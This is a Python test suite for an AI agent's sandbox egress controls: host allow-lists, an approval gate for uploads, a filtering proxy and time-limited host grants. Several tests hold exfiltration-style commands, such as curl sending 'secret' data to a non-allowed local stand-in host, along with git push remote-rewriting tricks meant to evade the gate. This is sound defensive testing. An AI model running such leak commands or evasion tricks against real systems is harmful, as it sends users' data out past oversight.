"""Tests of egress: the host decision (passepartout/egress.hy), the
egress gate (skills/egress_gate.hy), the per-action proxy (passepartout/proxy.hy)
and host grants. Real sockets, real bubblewrap, real curl.

The machine has no internet, so an "outside host" is a listener on 127.0.0.2,
which the host's loopback answers and the box's loopback does not: the box keeps
localhost and 127.0.0.1 to itself (NO_PROXY), so 127.0.0.2 is reached only
through the proxy, and only when [sandbox] allowed_hosts or a grant names it."""
import asyncio
import os
import shutil
import socket
import tempfile
import threading
from pathlib import Path

import hy  # noqa: F401
import pytest
from conftest import need_bwrap
from hy.models import Keyword

from passepartout.act import act
from passepartout.context import context_for
from passepartout.relay import boxed_command, find_relay
from passepartout.egress import decide, host_entries, split_host
from passepartout.approvals.grants import grant_covering
from passepartout.approvals.hitl import answer_approval
from passepartout.proto import proto_get, proto_put
from passepartout.proxy import Egress, parse_request
from passepartout.verify import verify
from passepartout.records import events

OUTSIDE = "127.0.0.2"


def kw(name):
    return Keyword(name)


def K(*pairs):
    return [kw(x) if i % 2 == 0 else x for i, x in enumerate(pairs)]


def shell_action(cmd):
    return K("action", kw("shell"), "cmd", cmd, "explanation", "try it")


# * Hosts and the decision

def test_hosts_are_written_one_way():
    cases = {"PyPI.org.": ("pypi.org", None), "pypi.org:8443": ("pypi.org", 8443),
             "[::1]:80": ("::1", 80), "127.0.0.2:8080": ("127.0.0.2", 8080),
             "localhost": ("localhost", None)}
    for text, want in cases.items():
        assert split_host(text) == want, (text, split_host(text))
    for bad in ["https://pypi.org", "pypi.org/simple", "1.2.3", "999.1.1.1", "x:0", "x:70000",
                "", "a b", "*.crates.io"]:
        assert split_host(bad) is None, (bad, split_host(bad))
    assert split_host("*.crates.io", wildcard=True) == ("*.crates.io", None)


def policy(allowed=(), grants=(), named=(), reads=()):
    return K("allowed", host_entries(list(allowed)), "grants", [list(g) for g in grants],
             "named", host_entries(list(named)), "named-reads", host_entries(list(reads)))


def test_the_decision_reads_are_allowed_uploads_and_strangers_are_not():
    p = policy(["pypi.org", "*.crates.io", "127.0.0.2:8080"])
    assert decide(p, "GET", "pypi.org", 443, 0)[0], "a read of an allowed host"
    assert decide(p, "CONNECT", "pypi.org", 443, 0)[0], "a tunnel to an allowed host"
    assert decide(p, "GET", "static.crates.io", 443, 0)[0], "a name under an allowed *.domain"
    assert not decide(p, "GET", "crates.io", 443, 0)[0], "*.domain does not cover the domain itself"
    assert not decide(p, "CONNECT", "pypi.org", 22, 0)[0], "an entry without a port covers 80 and 443 only"
    assert decide(p, "GET", "127.0.0.2", 8080, 0)[0], "an entry with a port covers that port"
    assert not decide(p, "GET", "127.0.0.2", 8081, 0)[0], "and no other"
    ok, why = decide(p, "POST", "pypi.org", 443, 0)
    assert not ok and "upload" in why and "pypi.org" in why, why
    ok, why = decide(p, "GET", "evil.example", 80, 0)
    assert not ok and "evil.example:80 is not an allowed host" in why, why


def test_a_host_grant_lets_everything_through_until_it_ends():
    p = policy(["pypi.org"], grants=[("evil.example", None, 100.0)])
    assert decide(p, "POST", "evil.example", 443, 99.0)[0], "granted: uploads go through"
    ok, why = decide(p, "POST", "evil.example", 443, 100.0)
    assert not ok, f"the grant has ended: {why}"
    named = policy(named=["h.example:8080"])
    assert decide(named, "PUT", "h.example", 8080, 0)[0], "a host on an approved command line"
    assert not decide(named, "PUT", "h.example", 443, 0)[0], "on the port it names"
    reads = policy(reads=["r.example"])
    assert decide(reads, "GET", "r.example", 443, 0)[0], "a host an approved line reads"
    assert decide(reads, "CONNECT", "r.example", 443, 0)[0], "a host an approved line reads, over TLS"
    assert not decide(reads, "POST", "r.example", 443, 0)[0], "is read, not written to"


# * The gate

@pytest.fixture
def gate_env(booted):
    env = booted('[sandbox]\nallowed_hosts = ["pypi.org", "github.com"]\n')
    return env, context_for(env, "gate")


def test_the_gate_asks_about_uploads_and_strangers_naming_the_host(gate_env):
    env, ctx = gate_env
    def decision(cmd):
        out = verify(shell_action(cmd), ctx)
        return next((d for d in proto_get(out, kw("decisions")) if proto_get(d, kw("gate")) == "egress"))
    d = decision("curl -sSf https://pypi.org/simple/requests/")
    assert proto_get(d, kw("verdict")) == kw("allow"), d
    d = decision("git push https://github.com/me/repo HEAD:main")
    assert proto_get(d, kw("verdict")) == kw("escalate"), d
    assert proto_get(d, kw("rule")) == "egress-upload", d
    assert "uploads to github.com" in proto_get(d, kw("reason")), d
    d = decision("curl -s https://paste.example/raw/1")
    assert proto_get(d, kw("verdict")) == kw("escalate") and proto_get(d, kw("rule")) == "egress-host", d
    assert "paste.example" in proto_get(d, kw("reason")), d
    d = decision("echo see https://paste.example/raw/1")
    assert proto_get(d, kw("verdict")) == kw("allow"), d


def test_a_push_to_a_remote_names_the_host_the_workspace_config_gives(gate_env):
    need_bwrap()
    env, ctx = gate_env
    git = Path(env.config["workspace"]) / ".git"
    git.mkdir()
    config = git / "config"

    def reason(cmd, c=ctx):
        out = verify(shell_action(cmd), c)
        d = next(d for d in proto_get(out, kw("decisions")) if proto_get(d, kw("gate")) == "egress")
        return proto_get(d, kw("reason"))
    config.write_text('[core]\n\tbare = false\n[remote "origin"]\n\turl = https://github.com/me/x.git\n'
                      '\tfetch = +refs/heads/*:refs/remotes/origin/*\n[remote "up"]\n\turl = git@gitlab.com:a/b\n')
    assert "`git push` uploads to github.com." in reason("git push origin main")
    assert "`git push` uploads to gitlab.com:22" in reason("git push up")
    for cmd in ["git push nowhere", "git -C . push origin", "git config remote.origin.url https://e.example/ && git push origin",
                "GIT_DIR=/x git push origin", "git push"]:
        assert "a host the command line does not name" in reason(cmd), cmd
    off = proto_put(ctx, kw("sandbox"), proto_put(proto_get(ctx, kw("sandbox")), kw("kind"), "off"))
    assert "a host the command line does not name" in reason("git push origin", off), \
        "without the sandbox nothing would hold a push to the host the question named"
    for text in ['[remote "origin"]\n\turl = https://github.com/me/x.git\n[url "https://e.example/"]\n\tinsteadOf = https://github.com/\n',
                 '[include]\n\tpath = other\n[remote "origin"]\n\turl = https://github.com/me/x.git\n',
                 '[remote "origin"]\n\turl = https://github.com/me/x.git\n\turl = https://e.example/y\n',
                 '[remote.origin]\n\turl = https://e.example/y\n[remote "origin"]\n\turl = https://github.com/x\n']:
        config.write_text(text)
        assert "a host the command line does not name" in reason("git push origin"), text
    config.write_text('[remote "origin"]\n\turl = https://github.com/me/x.git\n\tpushurl = https://e.example/y\n')
    assert "`git push` uploads to e.example" in reason("git push origin"), "the push URL is where it goes"


# * The proxy over real sockets

class Outside:
    """A listener on 127.0.0.2 standing for a host outside: it answers HTTP
    requests with "hello" and keeps what each connection sent, or (tls) keeps
    the first bytes and closes, as a TLS server would on a bad handshake."""

    def __init__(self, tls=False, patience=30):
        self.sock = socket.socket()
        self.sock.bind((OUTSIDE, 0))
        self.sock.listen(16)
        self.port = self.sock.getsockname()[1]
        self.tls = tls
        self.patience = patience
        self.got = []
        self.arrived = threading.Condition()
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        while True:
            try:
                c, _ = self.sock.accept()
            except OSError:
                return
            threading.Thread(target=self._one, args=(c,), daemon=True).start()

    def _one(self, c):
        c.settimeout(self.patience)
        data = b""
        try:
            while b"\r\n\r\n" not in data and not (self.tls and data):
                chunk = c.recv(65536)
                if not chunk:
                    break
                data += chunk
            if not self.tls:
                head, _, body = data.partition(b"\r\n\r\n")
                length = next((int(l.split(b":")[1]) for l in head.split(b"\r\n")
                               if l.lower().startswith(b"content-length:")), 0)
                while len(body) < length:
                    chunk = c.recv(65536)
                    if not chunk:
                        break
                    body += chunk
                data = head + b"\r\n\r\n" + body
                c.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 6\r\nConnection: keep-alive\r\n\r\nhello\n")
        except OSError:
            pass
        finally:
            c.close()
            with self.arrived:
                self.got.append(data)
                self.arrived.notify_all()

    def wait(self, n, seconds=30):
        with self.arrived:
            assert self.arrived.wait_for(lambda: len(self.got) >= n, seconds), \
                f"the listener got {len(self.got)} connections, not {n}"
        return self.got

    def close(self):
        self.sock.close()


@pytest.fixture
def outside():
    made = []

    def make(tls=False, patience=30):
        o = Outside(tls, patience)
        made.append(o)
        return o
    yield make
    for o in made:
        o.close()


async def through(egress, raw):
    """Send RAW on the proxy's socket; all it answers."""
    r, w = await asyncio.open_unix_connection(egress.path)
    w.write(raw)
    await w.drain()
    out = await asyncio.wait_for(r.read(), 30)
    w.close()
    return out


def run_proxy(pol, body, clock=lambda: 0.0):
    async def main():
        folder = tempfile.mkdtemp(prefix="pp-egress-")
        egress = await Egress(pol, folder, clock).start()
        try:
            return await body(egress), egress
        finally:
            await egress.close()
            assert not os.path.exists(folder), "closing removes the socket's folder"
    return asyncio.run(main())


def records(egress):
    return [dict(zip([str(k)[1:] for k in r[0::2]], r[1::2])) for r in egress.report()]


def test_parse_request():
    assert parse_request(b"CONNECT pypi.org:443 HTTP/1.1\r\nHost: pypi.org:443\r\n\r\n")[:3] == \
        ("CONNECT", "pypi.org", 443)
    assert parse_request(b"GET http://u:p@H.example:8080/a?b#c HTTP/1.1\r\n\r\n")[:4] == \
        ("GET", "h.example", 8080, "/a?b")
    assert parse_request(b"GET http://h.example?q HTTP/1.0\r\n\r\n")[3] == "/?q"
    for bad in [b"GET /x HTTP/1.1\r\n\r\n", b"CONNECT pypi.org HTTP/1.1\r\n\r\n",
                b"GET https://pypi.org/ HTTP/1.1\r\n\r\n", b"get http://a.b/ HTTP/1.1\r\n\r\n",
                b"GET http://a.b/ SPDY/3\r\n\r\n"]:
        assert isinstance(parse_request(bad), str), bad


def test_the_proxy_forwards_tunnels_refuses_and_counts(outside):
    o = outside()
    port = o.port
    pol = policy([f"{OUTSIDE}:{port}"])

    async def body(egress):
        get = await through(egress, f"GET http://{OUTSIDE}:{port}/a HTTP/1.1\r\nHost: x\r\n"
                                    "Proxy-Connection: keep-alive\r\n\r\n".encode())
        tunnel = await through(egress, f"CONNECT {OUTSIDE}:{port} HTTP/1.1\r\n\r\n"
                                       f"GET /t HTTP/1.1\r\nHost: x\r\n\r\n".encode())
        post = await through(egress, f"POST http://{OUTSIDE}:{port}/p HTTP/1.1\r\n"
                                     "Content-Length: 3\r\n\r\nabc".encode())
        other = await through(egress, b"CONNECT 127.0.0.3:443 HTTP/1.1\r\n\r\n")
        return get, tunnel, post, other

    (get, tunnel, post, other), egress = run_proxy(pol, body)
    assert get.startswith(b"HTTP/1.1 200") and get.endswith(b"hello\n"), get
    assert b"Connection: close" in get and b"keep-alive" not in get, get
    assert tunnel.startswith(b"HTTP/1.1 200 Connection established\r\n\r\nHTTP/1.1 200 OK"), tunnel
    assert post.startswith(b"HTTP/1.1 403") and f"{OUTSIDE}:{port}".encode() in post, post
    assert other.startswith(b"HTTP/1.1 403") and b"127.0.0.3:443 is not an allowed host" in other, other
    got = o.wait(2)
    assert len(got) == 2, f"the refused POST never reached the host: {got}"
    forwarded = next(g for g in got if b"/a " in g)
    assert forwarded.startswith(b"GET /a HTTP/1.1\r\n"), forwarded
    assert b"Proxy-Connection" not in forwarded and b"Connection: close" in forwarded, forwarded
    assert f"\r\nHost: {OUTSIDE}:{port}\r\n".encode() in forwarded and b"Host: x" not in forwarded, \
        f"the Host is the host decided on: {forwarded}"
    recs = records(egress)
    assert [(r["method"], r["verdict"]) for r in recs] == \
        [("GET", "allowed"), ("CONNECT", "allowed"), ("POST", "refused"), ("CONNECT", "refused")], recs
    assert recs[0]["up"] > 0 and recs[0]["down"] > 0 and recs[1]["up"] > 0, recs
    assert recs[2]["up"] == 0 and recs[2]["down"] == 0, recs


def test_a_grant_ends_while_the_proxy_serves(outside):
    o = outside()
    now = [0.0]
    pol = policy(grants=[(OUTSIDE, o.port, 10.0)])

    async def body(egress):
        first = await through(egress, f"POST http://{OUTSIDE}:{o.port}/ HTTP/1.1\r\nContent-Length: 0\r\n\r\n".encode())
        now[0] = 10.0
        second = await through(egress, f"POST http://{OUTSIDE}:{o.port}/ HTTP/1.1\r\nContent-Length: 0\r\n\r\n".encode())
        return first, second

    (first, second), _ = run_proxy(pol, body, clock=lambda: now[0])
    assert first.startswith(b"HTTP/1.1 200"), first
    assert second.startswith(b"HTTP/1.1 403"), second


def test_a_name_is_not_followed_to_loopback():
    pol = policy(["localhost:9"])

    async def body(egress):
        return await through(egress, b"CONNECT localhost:9 HTTP/1.1\r\n\r\n")

    out, egress = run_proxy(pol, body)
    assert out.startswith(b"HTTP/1.1 502") and b"internal addresses" in out, out
    assert records(egress)[0]["verdict"] == "failed", records(egress)


def test_closing_ends_an_open_tunnel(outside):
    o = outside(tls=True, patience=600)
    pol = policy([f"{OUTSIDE}:{o.port}"])

    async def body(egress):
        r, w = await asyncio.open_unix_connection(egress.path)
        w.write(f"CONNECT {OUTSIDE}:{o.port} HTTP/1.1\r\n\r\n".encode())
        await w.drain()
        answer = await asyncio.wait_for(r.readuntil(b"\r\n\r\n"), 30)
        return answer, r, w

    (answer, r, w), egress = run_proxy(pol, body)
    assert answer.startswith(b"HTTP/1.1 200"), answer
    assert not egress.tasks, "every connection ended with the proxy"
    # the host sees the tunnel end now, long before it would give up on it
    assert o.wait(1, seconds=60) == [b""], o.got


# * Shell actions in the box

@pytest.fixture
def box(booted, outside):
    """A daemon whose allowed hosts are one outside listener (and, for the
    tests that need one, a second it does not allow); short folders, since a
    Unix socket's path must fit in 108 bytes."""
    need_bwrap()
    short = Path(tempfile.mkdtemp(prefix="pp-"))
    (short / "ws").mkdir()
    allowed, other, tls = outside(), outside(), outside(tls=True)
    env = booted(f'[sandbox]\nallowed_hosts = ["{OUTSIDE}:{allowed.port}", "{OUTSIDE}:{tls.port}"]\n'
                 '[limits]\noutput_limit = 100000\n',
                 environ={"PASSEPARTOUT_WORKSPACE": str(short / "ws"),
                          "PASSEPARTOUT_RUNTIME_DIR": str(short / "run")})
    yield {"env": env, "ctx": context_for(env, "box"), "allowed": allowed, "other": other, "tls": tls}
    shutil.rmtree(short, ignore_errors=True)


def shell(ctx, cmd):
    return asyncio.run(act(K("action", kw("shell"), "cmd", cmd), ctx))


def egress_of(result):
    return [dict(zip([str(k)[1:] for k in r[0::2]], r[1::2])) for r in proto_get(result, kw("egress")) or []]


def test_an_allowed_host_is_reached_through_the_proxy(box):
    a = box["allowed"]
    r = shell(box["ctx"], f"curl -sS http://{OUTSIDE}:{a.port}/pkg")
    assert proto_get(r, kw("output")) == "hello\n", r
    assert a.wait(1)[0].startswith(b"GET /pkg HTTP/1.1"), a.got
    [rec] = egress_of(r)
    assert (rec["host"], rec["port"], rec["method"], rec["verdict"]) == (OUTSIDE, a.port, "GET", "allowed"), rec
    assert rec["up"] > 0 and rec["down"] > 0, rec


def test_tls_goes_through_a_tunnel(box):
    t = box["tls"]
    r = shell(box["ctx"], f"curl -sS --max-time 20 https://{OUTSIDE}:{t.port}/; true")
    got = t.wait(1)
    assert got[0][:1] == b"\x16", f"a TLS handshake reached the host: {got}"
    [rec] = egress_of(r)
    assert rec["method"] == "CONNECT" and rec["verdict"] == "allowed" and rec["up"] > 0, rec


def results_egress(env, verdict):
    out = []
    for e in events(env.store, kind="result", limit=None):
        result = proto_get(proto_get(e, kw("data")), kw("result")) or []
        out += [r for r in proto_get(result, kw("egress")) or [] if proto_get(r, kw("verdict")) == verdict]
    return out


def test_a_host_not_allowed_is_refused_and_the_journal_says_so(box):
    from steps import run_task, scripted, user_says
    env, o = box["env"], box["other"]
    # act carries out what it is given: the proxy refuses the host all the same
    r = shell(box["ctx"], f"curl -s http://{OUTSIDE}:{o.port}/leak?k=secret; echo done")
    assert "is not an allowed host" in proto_get(r, kw("output")), r
    [rec] = egress_of(r)
    assert rec["verdict"] == "refused" and f"{OUTSIDE}:{o.port}" in rec["why"], rec
    # through the loop, with a URL the line does not show (it is in a file),
    # so no gate asks: the refusal is in the journal, on the action's result turn
    (Path(env.config["workspace"]) / "urls.txt").write_text(f"http://{OUTSIDE}:{o.port}/x\n")
    scripted(env, ['(:action :shell :cmd "xargs curl -s < urls.txt" :explanation "fetch")',
                   '(:action :message :text "done")'])
    run_task(env, user_says("fetch it", chat="journal"))
    refused = results_egress(env, "refused")
    assert refused and proto_get(refused[0], kw("host")) == OUTSIDE, refused
    assert proto_get(refused[0], kw("port")) == o.port, refused
    assert o.got == [], f"nothing reached the host that is not allowed: {o.got}"


def test_a_post_is_asked_about_and_a_host_grant_lets_it_through(box):
    from steps import run_task, scripted, user_says
    env, a = box["env"], box["allowed"]
    cmd = f"curl -sS -d secret=1 http://{OUTSIDE}:{a.port}/up"
    # run without a grant: the proxy refuses, the host sees nothing
    r = shell(box["ctx"], cmd)
    assert "is an upload" in proto_get(r, kw("output")) and a.got == [], (r, a.got)
    # proposed: the gate asks, naming the host
    scripted(env, [f'(:action :shell :cmd "{cmd}" :explanation "send it")', '(:action :message :text "sent")'])
    [asked] = run_task(env, user_says("send it", chat="post"))
    payload = proto_get(asked, kw("payload"))
    assert f"uploads to {OUTSIDE}:{a.port}" in proto_get(payload, kw("text")), payload
    session = proto_get(asked, kw("session"))
    code = proto_get(proto_get(payload, kw("approval")), kw("code"))
    # a person approves it with a grant of the host for an hour
    answer = asyncio.run(answer_approval(env, "test:local", session, code, "approve", minutes=60,
                                         hosts=[f"{OUTSIDE}:{a.port}"]))
    assert proto_get(answer, kw("ok")), answer
    assert "reads and uploads to" in proto_get(answer, kw("text")), answer
    got = a.wait(1)
    assert got[0].startswith(b"POST /up") and got[0].endswith(b"secret=1"), got
    # a later upload to that host is covered by the grant, and its proxy lets it through
    later = f"curl -sS -X PUT -d v=2 http://{OUTSIDE}:{a.port}/again"
    ctx = context_for(env, session)
    outcome = verify(shell_action(later), ctx)
    assert proto_get(outcome, kw("verdict")) == kw("escalate"), outcome
    assert grant_covering(env.store, session, shell_action(later), ctx, env.clock(),
                          proto_get(outcome, kw("decisions"))) is not None, "the host grant covers it"
    scripted(env, [f'(:action :shell :cmd "{later}" :explanation "again")', '(:action :message :text "sent")'])
    replies = run_task(env, user_says("again", chat="post"))
    assert not any(proto_get(proto_get(x, kw("payload")), kw("approval")) for x in replies), replies
    assert a.wait(2)[1].startswith(b"PUT /again"), a.got
    granted = [r for r in results_egress(env, "allowed") if proto_get(r, kw("method")) == "PUT"]
    assert granted and "granted by a person" in proto_get(granted[0], kw("why")), granted
    # not in another conversation
    r = shell(context_for(env, "elsewhere"), later)
    assert "is an upload" in proto_get(r, kw("output")), r


def test_a_python_socket_on_the_same_line_gets_no_network(box):
    a = box["allowed"]
    probe = Path(box["env"].config["workspace"]) / "probe.py"
    probe.write_text(f"import socket\ntry:\n    socket.create_connection(('{OUTSIDE}', {a.port}), 5)\n"
                     "    print('CONNECTED')\nexcept OSError as e:\n    print('NO NETWORK', e)\n")
    r = shell(box["ctx"], f"curl -sS http://{OUTSIDE}:{a.port}/ok && python3 probe.py")
    out = proto_get(r, kw("output"))
    assert out.startswith("hello\n") and "NO NETWORK" in out and "CONNECTED" not in out, out
    assert len(a.wait(1)) == 1, a.got


def test_names_are_not_resolved_inside(box):
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.bind((OUTSIDE, 0))
    u.settimeout(0.5)
    port = u.getsockname()[1]
    try:
        r = shell(box["ctx"], "getent hosts pypi.org; echo getent=$?; "
                              f"python3 -c \"import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM)"
                              f".sendto(b'q', ('{OUTSIDE}', {port})); print('sent')\"; "
                              "python3 -c \"import socket; socket.getaddrinfo('pypi.org', 443)\" 2>&1 | tail -1")
        out = proto_get(r, kw("output"))
        assert "getent=2" in out, out
        assert "gaierror" in out, out
        with pytest.raises(socket.timeout):
            u.recvfrom(10)
    finally:
        u.close()


def test_a_line_that_never_goes_out_gets_no_door(box):
    a = box["allowed"]
    r = shell(box["ctx"], "printenv HTTP_PROXY; echo end")
    assert proto_get(r, kw("output")) == "end\n", f"no proxy for a local line: {r}"
    r = shell(box["ctx"], f"printenv HTTP_PROXY; timeout 20 curl -sS http://{OUTSIDE}:{a.port}/t")
    assert proto_get(r, kw("output")) == "http://127.0.0.1:3128\nhello\n", r


def test_the_python_relay_and_no_relay(box):
    a = box["allowed"]
    ctx = box["ctx"]
    status = proto_get(ctx, kw("sandbox"))
    python = shutil.which("python3", path="/usr/bin:/bin")
    if not python:
        pytest.skip("no system python3")
    with_python = proto_put(ctx, kw("sandbox"), proto_put(status, kw("relay"), ["python", python]))
    r = shell(with_python, f"curl -sS http://{OUTSIDE}:{a.port}/py")
    assert proto_get(r, kw("output")) == "hello\n", r
    none = proto_put(ctx, kw("sandbox"), proto_put(status, kw("relay"), None))
    r = shell(none, f"curl -sS --max-time 5 http://{OUTSIDE}:{a.port}/none; echo still ran")
    out = proto_get(r, kw("output"))
    assert "still ran" in out and "hello" not in out, out
    assert [g for g in a.wait(1) if b"/none" in g] == [], a.got


def test_network_off_and_on(box):
    a = box["allowed"]
    ctx = box["ctx"]
    status = proto_get(ctx, kw("sandbox"))
    off = proto_put(ctx, kw("sandbox"), proto_put(status, kw("network"), "off"))
    r = shell(off, f"curl -sS --max-time 5 http://{OUTSIDE}:{a.port}/off; env | grep -c -i _proxy=")
    assert "hello" not in proto_get(r, kw("output")) and proto_get(r, kw("egress")) is None, r
    on = proto_put(ctx, kw("sandbox"), proto_put(status, kw("network"), "on"))
    r = shell(on, f"curl -sS --noproxy '*' http://{OUTSIDE}:{box['other'].port}/on")
    assert proto_get(r, kw("output")) == "hello\n", f"network on is the host's, unfiltered: {r}"
    assert proto_get(r, kw("egress")) is None, r


def test_the_relay_waits_for_nothing_when_the_command_ends(box):
    """The relay lives beside the command, not after it: the action ends when
    the command does, and nothing of the box is left."""
    r = shell(box["ctx"], "echo quick")
    assert proto_get(r, kw("output")) == "quick\n" and proto_get(r, kw("status")) == kw("ok"), r
    assert boxed_command("x", None) == ["/bin/sh", "-c", "x"]
    assert find_relay() is not None, "perl or python3 is on every machine these tests run on"


def test_a_host_grant_answered_on_the_host(box, tmp_path):
    """`passepartout approvals approve CODE 1h HOST` on the host: the answer
    waits in the store with its hosts, and the daemon carries it out with a
    grant of that host."""
    import subprocess
    import sys
    from steps import run_task, scripted, user_says
    from passepartout.approvals.hitl import carry_out_answered
    env, a = box["env"], box["allowed"]
    cmd = f"curl -sS -d k=v http://{OUTSIDE}:{a.port}/host"
    scripted(env, [f'(:action :shell :cmd "{cmd}" :explanation "send it")', '(:action :message :text "sent")'])
    [asked] = run_task(env, user_says("send it", chat="host"))
    code = proto_get(proto_get(proto_get(asked, kw("payload")), kw("approval")), kw("code"))
    environ = dict(os.environ, PASSEPARTOUT_DATA_DIR=str(tmp_path / "data"), HOME=str(tmp_path),
                   PASSEPARTOUT_WORKSPACE=env.config["workspace"],
                   PASSEPARTOUT_RUNTIME_DIR=env.config["runtime_dir"])
    base = [sys.executable, "-m", "passepartout", "--config", str(tmp_path / "config.toml"), "approvals"]
    bad = subprocess.run(base + ["approve", code, "1h", "thanks"], env=environ, capture_output=True,
                         text=True, timeout=120)
    assert bad.returncode == 2 and "'thanks' is not a host" in bad.stderr, bad.stderr
    out = subprocess.run(base + ["approve", code, "1h", f"{OUTSIDE}:{a.port}"], env=environ,
                         capture_output=True, text=True, timeout=120)
    assert out.returncode == 0 and "Approved" in out.stdout, out.stdout + out.stderr
    assert a.got == [], "the host command runs nothing itself"
    asyncio.run(carry_out_answered(env))
    assert a.wait(1)[0].startswith(b"POST /host"), a.got
    rows = env.store.query("SELECT scope FROM grants")
    assert rows and f'"{OUTSIDE}:{a.port}"' in rows[0][0] and ":egress" in rows[0][0], rows


def test_a_grant_of_the_kind_covers_uploads_to_the_same_host_only(box):
    """/approve CODE 30m on an upload grants that program's uploads to that
    host: a later one runs without asking and its proxy lets it through; an
    upload to another host is asked about again."""
    from steps import run_task, scripted, user_says
    env, a, o = box["env"], box["allowed"], box["other"]
    first = f"curl -sS -d n=1 http://{OUTSIDE}:{a.port}/one"
    scripted(env, [f'(:action :shell :cmd "{first}" :explanation "send")', '(:action :message :text "ok")'])
    [asked] = run_task(env, user_says("send", chat="kind"))
    session = proto_get(asked, kw("session"))
    code = proto_get(proto_get(proto_get(asked, kw("payload")), kw("approval")), kw("code"))
    answer = asyncio.run(answer_approval(env, "test:local", session, code, "approve", minutes=30))
    assert "egress gate: uploads to" in proto_get(answer, kw("text")), answer
    assert a.wait(1)[0].startswith(b"POST /one"), a.got
    second = f"curl -sS -d n=2 http://{OUTSIDE}:{a.port}/two"
    scripted(env, [f'(:action :shell :cmd "{second}" :explanation "send")', '(:action :message :text "ok")'])
    replies = run_task(env, user_says("again", chat="kind"))
    assert not any(proto_get(proto_get(x, kw("payload")), kw("approval")) for x in replies), replies
    assert a.wait(2)[1].startswith(b"POST /two"), a.got
    elsewhere = f"curl -sS -d n=3 http://{OUTSIDE}:{o.port}/three"
    scripted(env, [f'(:action :shell :cmd "{elsewhere}" :explanation "send")', '(:action :message :text "ok")'])
    [asked] = run_task(env, user_says("and there", chat="kind"))
    assert proto_get(proto_get(asked, kw("payload")), kw("approval")), asked
    assert o.got == [], o.got


def test_approving_a_read_of_a_host_not_allowed_lets_that_read_through_once(box):
    from steps import run_task, scripted, user_says
    env, o = box["env"], box["other"]
    cmd = f"curl -sS http://{OUTSIDE}:{o.port}/read"
    scripted(env, [f'(:action :shell :cmd "{cmd}" :explanation "read it")', '(:action :message :text "read")'])
    [asked] = run_task(env, user_says("read it", chat="read"))
    payload = proto_get(asked, kw("payload"))
    assert f"reaches {OUTSIDE}:{o.port}, which is not an allowed host" in proto_get(payload, kw("text")), payload
    code = proto_get(proto_get(payload, kw("approval")), kw("code"))
    answer = asyncio.run(answer_approval(env, "test:local", proto_get(asked, kw("session")), code, "approve"))
    assert proto_get(answer, kw("ok")), answer
    assert o.wait(1)[0].startswith(b"GET /read"), o.got
    # the approval was for that action: the same line again is asked about again
    scripted(env, [f'(:action :shell :cmd "{cmd}" :explanation "read it")', '(:action :message :text "read")'])
    [again] = run_task(env, user_says("again", chat="read"))
    assert proto_get(proto_get(again, kw("payload")), kw("approval")), again
